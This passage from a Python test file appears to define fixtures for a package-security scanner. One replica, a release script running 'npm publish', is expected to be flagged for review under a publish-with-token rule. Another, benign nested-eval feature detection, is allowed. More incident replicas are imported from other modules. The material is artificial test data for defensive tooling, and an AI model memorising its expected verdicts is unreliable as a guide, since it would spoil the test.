                "  execSync('npm publish', { cwd: dir, stdio: 'inherit' });\n};\n"
            )
        },
        "review",
        frozenset({"publish-with-token"}),
        note="release tooling legitimately publishes with tokens; outside install time a human confirms it",
    ),
    Replica(
        "feature-detection-eval",
        {
            "index.js": nested_eval("module.exports = typeof Symbol === 'function';", 2)
            + "\nmodule.exports.version = '1.0.0';\n"
        },
        "allow",
        frozenset(),
        note="old feature-detection code evals a literal, even nested: analysed within the budget, no cut",
    ),
]


# Replicas added since issue 10 live in one module per attack class under `replicas/`.
from tests.incidents.replicas import MORE_BENIGN, MORE_INCIDENTS  # noqa: E402

INCIDENTS.extend(MORE_INCIDENTS)
BENIGN.extend(MORE_BENIGN)
